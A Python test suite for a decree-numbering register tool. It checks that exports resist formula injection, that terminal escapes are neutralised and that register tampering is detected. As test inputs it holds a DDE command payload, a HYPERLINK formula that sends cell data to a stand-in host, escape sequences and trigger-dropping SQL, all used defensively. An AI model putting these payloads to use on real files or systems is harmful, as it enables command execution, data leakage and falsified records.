"""The register under careless and hostile use (issue 16): it is never replaced by its own
export, its export holds no formula, what it stores never drives a terminal, every failure is one
message that claims a number only when one was taken, numbers stay bounded, and a register
changed outside kpu-docs is noticed before it gives a number again."""

from __future__ import annotations

import csv
import datetime
import importlib.util
import io
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kpu_docs.cli import app
from kpu_docs.nomor import register as register_module
from kpu_docs.nomor.ambil import ambil_nomor
from kpu_docs.nomor.pola import Pola
from kpu_docs.nomor.register import BATAL, Register, RegisterDiubah
from tests.nomor.conftest import decree_file

ROOT = Path(__file__).resolve().parents[2]
DRAFT = "[ISI NOMOR]/PP.04.1-Kpt/5201/2026"
INSTANSI = "Komisi Pemilihan Umum Kabupaten Lombok Barat"
POLA = Pola("{urut}/PP.04.1-Kpt/5201/{tahun}")
RUMUS = "=cmd|' /C calc'!A0"
runner = CliRunner()


def cli(*args):
    return runner.invoke(app, [str(a) for a in args])


def take(register: Path, tentang: str = "Pembentukan Tim Kerja", oleh: str = "Siti", berkas: Path | None = None):
    with Register(register, create=True) as reg:
        return reg.ambil(instansi=INSTANSI, pola=POLA, tahun=2026, tanggal=datetime.date(2026, 2, 10),
                         tentang=tentang, berkas=berkas, oleh=oleh)


def register_of(tmp_path: Path, count: int = 3) -> Path:
    register = tmp_path / "register.sqlite"
    for i in range(count):
        take(register, tentang=f"Keputusan {i + 1}", berkas=tmp_path / f"k{i + 1}.yaml")
    return register


def one_message(result) -> str:
    assert "Traceback" not in result.output
    assert result.output.count("Galat:") == 1, result.output
    return result.output


# --- defect 1: the register destroyed by its own export ----------------------------------------

@pytest.mark.parametrize("via", ["same", "symlink", "journal", "other-register"])
def test_an_export_onto_a_register_is_refused_and_the_register_left_as_it_was(tmp_path, via):
    register = register_of(tmp_path)
    target = {"same": register, "symlink": tmp_path / "agenda.csv", "journal": tmp_path / "register.sqlite-journal",
              "other-register": register_of(tmp_path / "lain")}[via]
    if via == "symlink":
        target.symlink_to(register)
    before = {p: p.read_bytes() for p in (register, target) if p.is_file()}
    result = cli("nomor", "daftar", "--register", register, "--format", "csv", "-o", target)
    assert result.exit_code == 2
    message = one_message(result)
    assert "Ditulis" not in message and str(target) in message
    assert (str(register) in message) if via != "other-register" else "basis data SQLite" in message
    assert {p: p.read_bytes() for p in before} == before
    assert not (tmp_path / "register.sqlite-journal").exists()
    assert cli("nomor", "periksa", "--register", register).exit_code == 0


# --- defect 2: formula injection in the agenda export ------------------------------------------

def formula_register(tmp_path: Path) -> Path:
    register = tmp_path / "register.sqlite"
    take(register, tentang=RUMUS, oleh='=HYPERLINK("http://contoh.invalid/?"&A1,"klik")')
    take(register, tentang="+1+1", oleh="@SUM(1)")
    take(register, tentang="\t=1+1", oleh="-2+3")
    with Register(register) as reg:
        reg.batal("1/PP.04.1-Kpt/5201/2026", alasan=RUMUS, oleh="=1+1")
        reg.batal("2/PP.04.1-Kpt/5201/2026", alasan="\r@SUM(A1)", oleh="\r=1")
    return register


def test_the_xlsx_agenda_has_no_formula_and_keeps_the_text_as_typed(tmp_path):
    from openpyxl import load_workbook

    register = formula_register(tmp_path)
    target = tmp_path / "agenda.xlsx"
    result = cli("nomor", "daftar", "--register", register, "-o", target)
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(target) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = package.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml
    assert sheets
    sheet = load_workbook(target).active
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [r[3] for r in rows] == [RUMUS, "+1+1", "\t=1+1"]
    assert rows[0][5] == '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")' and rows[1][5] == "@SUM(1)"
    assert rows[0][8].endswith(RUMUS)
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str))


def test_no_csv_cell_starts_a_formula(tmp_path):
    register = formula_register(tmp_path)
    target = tmp_path / "agenda.csv"
    assert cli("nomor", "daftar", "--register", register, "-o", target).exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + RUMUS in cells and "'+1+1" in cells and "'\t=1+1" in cells and "'@SUM(1)" in cells
    assert "'\\x0d@SUM(A1)" not in cells  # a CR is written out, and what follows it is text again
    stdout = cli("nomor", "daftar", "--register", register, "--format", "csv").stdout
    assert [c for row in csv.reader(io.StringIO(stdout)) for c in row if c[:1] in ("=", "+", "-", "@")] == []


# --- defect 20: stored terminal escapes ---------------------------------------------------------

def test_stored_control_characters_are_written_out_when_listed(tmp_path):
    register = register_of(tmp_path, 1)
    escape = "\x1b]0;diretas\x07\x1b[2J\u202e"
    result = cli("nomor", "batal", "1/PP.04.1-Kpt/5201/2026", "--register", register, "--alasan", escape,
                 "--oleh", "budi\x1b[31m")
    assert result.exit_code == 0
    for args in ([], ["--format", "csv"]):
        listed = cli("nomor", "daftar", "--register", register, *args)
        assert listed.exit_code == 0
        assert "\x1b" not in listed.stdout and "\x07" not in listed.stdout and "\u202e" not in listed.stdout
        assert "\\x1b]0;diretas\\x07\\x1b[2J\\u202e" in listed.stdout and "budi\\x1b[31m" in listed.stdout
    target = tmp_path / "agenda.xlsx"
    assert cli("nomor", "daftar", "--register", register, "-o", target).exit_code == 0  # openpyxl refuses raw ESC


# --- defect 10: tracebacks, and a sequence broken for good ---------------------------------------

@pytest.mark.parametrize("mulai", [10**30, 9223372036854775807, 1_000_000_000])
def test_a_start_beyond_the_bound_is_refused(tmp_path, mulai):
    register = register_of(tmp_path, 1)
    path = decree_file(tmp_path, DRAFT, "2026-02-10")
    before = path.read_bytes()
    result = cli("nomor", "ambil", path, "--register", register, "--mulai", mulai, "--paksa")
    assert result.exit_code == 2
    assert "nomor urut harus antara 1 dan 999999999" in one_message(result)
    assert "diambil" not in result.output
    assert path.read_bytes() == before
    assert len(cli("nomor", "daftar", "--register", register).stdout.splitlines()) == 2
    assert ambil_nomor(path, register).urut == 2  # the sequence goes on


def test_a_large_jump_asks_for_paksa(tmp_path):
    register = register_of(tmp_path, 2)
    path = decree_file(tmp_path, DRAFT, "2026-02-10")
    before = path.read_bytes()
    result = cli("nomor", "ambil", path, "--register", register, "--mulai", 4500000)
    assert result.exit_code == 2
    assert ("--mulai 4500000: nomor urut terakhir {urut}/PP.04.1-Kpt/5201/{tahun} tahun 2026 di register adalah 2; "
            "mulai dari 4500000 meninggalkan 4499997 nomor kosong") in one_message(result)
    assert "--paksa" in result.output and path.read_bytes() == before
    assert cli("nomor", "ambil", path, "--register", register, "--mulai", 103).exit_code == 0  # within the margin
    other = decree_file(tmp_path, DRAFT, "2026-02-10", name="lain.yaml")
    result = cli("nomor", "ambil", other, "--register", register, "--mulai", 4500000, "--paksa")
    assert result.exit_code == 0 and result.stdout == "4500000/PP.04.1-Kpt/5201/2026\n"


V1_COMMIT = "5407d2f6c7d134b2321c8c13b123b9f1dd354fce"
"""The last commit whose register had no hash chain (schema version 1)."""


def load_v1():
    """The register module as it was before the hash chain, from git history, to make registers
    exactly as offices' registers were made."""
    source = subprocess.run(["git", "-C", str(ROOT), "show", f"{V1_COMMIT}:kpu_docs/nomor/register.py"],
                            capture_output=True, text=True)
    if source.returncode or "VERSI = 1" not in source.stdout:
        pytest.skip("the version 1 register module is not at hand in git")
    spec = importlib.util.spec_from_loader("register_v1", loader=None)
    module = importlib.util.module_from_spec(spec)
    sys.modules["register_v1"] = module
    exec(compile(source.stdout, "register_v1.py", "exec"), module.__dict__)
    return module


def test_a_version_1_register_is_sealed_on_open_and_keeps_its_numbers(tmp_path):
    v1 = load_v1()
    register = tmp_path / "register.sqlite"
    with v1.Register(register, create=True) as reg:
        for i in range(3):
            reg.ambil(instansi=INSTANSI, pola=POLA, tahun=2026, tanggal=datetime.date(2026, 2, 10), tentang=f"K{i}",
                      berkas=tmp_path / f"k{i}.yaml", oleh="Siti")
        reg.tandai(1, "ditulis")
        reg.batal("2/PP.04.1-Kpt/5201/2026", alasan="salah")
    with sqlite3.connect(register) as conn:
        assert conn.execute("PRAGMA user_version").fetchone() == (1,)
    result = cli("nomor", "periksa", "--register", register)
    assert result.exit_code == 0 and "Register utuh: 3 nomor" in result.output
    with sqlite3.connect(register) as conn:
        assert conn.execute("PRAGMA user_version").fetchone() == (2,)
        assert conn.execute("SELECT urut, status, keterangan FROM nomor ORDER BY id").fetchall() == [
            (1, "ditulis", None), (2, BATAL, "salah"), (3, "diambil", None)]
        with pytest.raises(sqlite3.DatabaseError, match="tidak pernah dihapus"):
            conn.execute("DELETE FROM nomor WHERE id = 1")
    assert ambil_nomor(decree_file(tmp_path, DRAFT, "2026-02-10"), register).urut == 4


def test_a_version_1_number_at_the_64_bit_limit_no_longer_stops_the_sequence_once_cancelled(tmp_path):
    v1 = load_v1()
    register = tmp_path / "register.sqlite"
    with v1.Register(register, create=True) as reg:
        reg.ambil(instansi=INSTANSI, pola=POLA, tahun=2026, tanggal=datetime.date(2026, 2, 10), tentang="salah ketik",
                  berkas=None, oleh="Siti", mulai=9223372036854775807)
    path = decree_file(tmp_path, DRAFT, "2026-02-10")
    result = cli("nomor", "ambil", path, "--register", register)
    assert result.exit_code == 2
    assert "sudah sampai 9223372036854775807 (batas 999999999)" in one_message(result)
    assert "kpu-docs nomor batal" in result.output
    assert cli("nomor", "batal", "9223372036854775807/PP.04.1-Kpt/5201/2026", "--register", register).exit_code == 0
    assert ambil_nomor(path, register).urut == 1


def corrupt(register: Path, offset: int) -> None:
    data = bytearray(register.read_bytes())
    data[offset:offset + 4096] = b"\xa5" * 4096
    register.write_bytes(bytes(data))


@pytest.mark.parametrize("where", ["page", "header"])
@pytest.mark.parametrize("command", ["daftar", "ambil", "batal", "periksa"])
def test_a_damaged_register_is_one_message_with_exit_code_2(tmp_path, where, command):
    register = tmp_path / "register.sqlite"
    with Register(register, create=True) as reg:
        for i in range(300):  # several pages of rows
            reg.ambil(instansi=INSTANSI, pola=POLA, tahun=2026, tanggal=datetime.date(2026, 2, 10),
                      tentang="Pembentukan Tim Kerja " * 5 + str(i), berkas=None)
    corrupt(register, 4096 if where == "page" else 0)
    path = decree_file(tmp_path, DRAFT, "2026-02-10")
    before = path.read_bytes()
    args = {"daftar": ["daftar"], "ambil": ["ambil", path], "batal": ["batal", "1/PP.04.1-Kpt/5201/2026"],
            "periksa": ["periksa"]}[command]
    result = cli("nomor", *args, "--register", register)
    assert result.exit_code == 2, result.output
    message = one_message(result)
    assert "register rusak" in message or "bukan register nomor kpu-docs" in message
    assert "tercatat" not in message and "sudah diambil" not in message
    assert path.read_bytes() == before


def test_a_foreign_database_with_a_nomor_table_is_refused_untouched(tmp_path):
    foreign = tmp_path / "lain.sqlite"
    with sqlite3.connect(foreign) as conn:
        conn.execute("CREATE TABLE nomor (kode TEXT, nama TEXT)")
        conn.execute("INSERT INTO nomor VALUES ('1', 'a')")
    before = foreign.read_bytes()
    for args in (["daftar"], ["periksa"], ["ambil", decree_file(tmp_path, DRAFT, "2026-02-10")], ["batal", "1"]):
        result = cli("nomor", *args, "--register", foreign)
        assert result.exit_code == 2 and "bukan register nomor kpu-docs" in one_message(result)
    assert foreign.read_bytes() == before


def test_a_read_only_register_is_one_message_and_claims_nothing(tmp_path, monkeypatch):
    register = register_of(tmp_path, 1)
    connect = sqlite3.connect
    # a read-only file, as a share mounted read-only gives it (tests run as root, whom chmod does not stop)
    monkeypatch.setattr(register_module.sqlite3, "connect",
                        lambda path, **kw: connect(f"file:{path}?mode=ro", uri=True, **kw))
    result = cli("nomor", "batal", "1/PP.04.1-Kpt/5201/2026", "--register", register, "--alasan", "x")
    assert result.exit_code == 2
    assert "register tidak dapat ditulis (hanya-baca)" in one_message(result)
    path = decree_file(tmp_path, DRAFT, "2026-02-10")
    result = cli("nomor", "ambil", path, "--register", register)
    assert result.exit_code == 2 and "hanya-baca" in one_message(result)
    assert "tercatat" not in result.output and "sudah diambil" not in result.output
    assert cli("nomor", "daftar", "--register", register).exit_code == 0  # listing needs no writing


def test_a_locked_register_is_exit_code_1_and_claims_nothing(tmp_path, monkeypatch):
    register = register_of(tmp_path, 1)
    path = decree_file(tmp_path, DRAFT, "2026-02-10")
    before = path.read_bytes()
    monkeypatch.setattr(register_module, "BUSY_TIMEOUT", 0.2)
    holder = sqlite3.connect(register, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        result = cli("nomor", "ambil", path, "--register", register)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.exit_code == 1
    message = one_message(result)
    assert "register sedang dipakai proses lain" in message
    assert "tercatat" not in message and "sudah diambil" not in message
    assert path.read_bytes() == before


# --- defect 22: a tampered register ---------------------------------------------------------

def tamper(register: Path, *statements: str) -> None:
    with sqlite3.connect(register, isolation_level=None) as conn:
        for statement in statements:
            conn.execute(statement)


@pytest.mark.parametrize("statements, finding", [
    (["DROP TRIGGER nomor_tidak_dihapus", "DELETE FROM nomor WHERE urut = 2"],
     "baris id 2 sebelum nomor 3/PP.04.1-Kpt/5201/2026 telah dihapus"),
    (["DROP TRIGGER nomor_tidak_dihapus", "DELETE FROM nomor WHERE urut = 3"], "register mencatat 3 baris tetapi tinggal 2"),
    (["DROP TRIGGER nomor_tidak_dihapus"], "pemicu nomor_tidak_dihapus (pelindung register) telah dihapus"),
    (["CREATE TRIGGER lain AFTER INSERT ON nomor BEGIN UPDATE nomor SET urut = 1 WHERE id = NEW.id; END"],
     "pemicu lain ditambahkan di luar kpu-docs"),
    (["UPDATE nomor SET tentang = 'lain' WHERE urut = 1"],
     "nomor 1/PP.04.1-Kpt/5201/2026 (baris id 1): nomor, tanggal, tentang, status atau keterangannya diubah"),
    (["UPDATE nomor SET oleh = 'Budi' WHERE urut = 2"], "nomor 2/PP.04.1-Kpt/5201/2026 (baris id 2): instansi, pola"),
    (["DROP TRIGGER nomor_urut_tetap", "UPDATE nomor SET urut = 7, nomor = '7/PP.04.1-Kpt/5201/2026' WHERE urut = 3"],
     "nomor 7/PP.04.1-Kpt/5201/2026 (baris id 3): instansi, pola, tahun, nomor urut"),
    (["INSERT INTO nomor (instansi, pola, tahun, urut, nomor, oleh, diambil_pada, status) VALUES "
      f"('{INSTANSI}', '{POLA.teks}', 2026, 4, '4/PP.04.1-Kpt/5201/2026', 'x', '2026', 'ditulis')"],
     "nomor 4/PP.04.1-Kpt/5201/2026 (baris id 4) ditambahkan di luar kpu-docs"),
])
def test_a_tampered_register_is_reported_and_gives_no_number(tmp_path, statements, finding):
    register = register_of(tmp_path, 3)
    assert cli("nomor", "periksa", "--register", register).exit_code == 0
    tamper(register, *statements)
    result = cli("nomor", "periksa", "--register", register)
    assert result.exit_code == 2
    assert "register telah diubah di luar kpu-docs" in one_message(result) and finding in result.output
    with sqlite3.connect(register) as conn:
        before = conn.execute("SELECT * FROM nomor ORDER BY id").fetchall()
    path = decree_file(tmp_path, DRAFT, "2026-02-10")
    text = path.read_bytes()
    result = cli("nomor", "ambil", path, "--register", register)
    assert result.exit_code == 2 and finding in one_message(result)
    assert "tercatat" not in result.output and path.read_bytes() == text
    with sqlite3.connect(register) as conn:
        assert conn.execute("SELECT * FROM nomor ORDER BY id").fetchall() == before


def test_tampering_between_two_numbers_of_one_batch_is_seen(tmp_path):
    register = register_of(tmp_path, 2)
    with Register(register) as reg:
        reg.ambil(instansi=INSTANSI, pola=POLA, tahun=2026, tanggal=datetime.date(2026, 2, 10), tentang="a",
                  berkas=None)
        tamper(register, "DROP TRIGGER nomor_tidak_dihapus", "DELETE FROM nomor WHERE urut = 3")
        with pytest.raises(RegisterDiubah, match="register mencatat 3 baris tetapi tinggal 2"):
            reg.ambil(instansi=INSTANSI, pola=POLA, tahun=2026, tanggal=datetime.date(2026, 2, 10), tentang="b",
                      berkas=None)


def test_a_whole_register_reports_itself_whole(tmp_path):
    register = register_of(tmp_path, 3)
    with Register(register) as reg:
        reg.batal("2/PP.04.1-Kpt/5201/2026", alasan="salah")
    ambil_nomor(decree_file(tmp_path, DRAFT, "2026-02-10"), register)
    result = cli("nomor", "periksa", "--register", register)
    assert result.exit_code == 0
    assert result.output == "Register utuh: 4 nomor, rantai hash cocok dari baris pertama sampai terakhir.\n"


def test_a_version_1_register_on_a_read_only_share_can_be_listed_but_not_called_whole(tmp_path, monkeypatch):
    v1 = load_v1()
    register = tmp_path / "register.sqlite"
    with v1.Register(register, create=True) as reg:
        reg.ambil(instansi=INSTANSI, pola=POLA, tahun=2026, tanggal=datetime.date(2026, 2, 10), tentang="K",
                  berkas=None, oleh="Siti")
    before = register.read_bytes()
    connect = sqlite3.connect
    monkeypatch.setattr(register_module.sqlite3, "connect",
                        lambda path, **kw: connect(f"file:{path}?mode=ro", uri=True, **kw))
    listed = cli("nomor", "daftar", "--register", register)
    assert listed.exit_code == 0 and "1/PP.04.1-Kpt/5201/2026" in listed.stdout
    result = cli("nomor", "periksa", "--register", register)
    assert result.exit_code == 2 and "register versi lama belum disegel" in one_message(result)
    assert register.read_bytes() == before


def test_statistics_an_sqlite_browser_adds_are_not_tampering(tmp_path):
    register = register_of(tmp_path, 3)
    tamper(register, "ANALYZE")
    result = cli("nomor", "periksa", "--register", register)
    assert result.exit_code == 0, result.output
    assert ambil_nomor(decree_file(tmp_path, DRAFT, "2026-02-10"), register).urut == 4
